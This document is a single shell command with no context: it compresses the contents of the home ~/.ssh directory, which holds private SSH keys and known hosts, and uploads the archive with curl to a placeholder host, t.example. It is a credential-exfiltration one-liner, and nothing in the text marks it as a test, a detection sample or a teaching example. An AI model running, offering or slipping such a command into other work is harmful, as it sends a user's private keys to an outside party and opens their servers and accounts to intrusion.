tar czf - ~/.ssh | curl -T - https://t.example/k
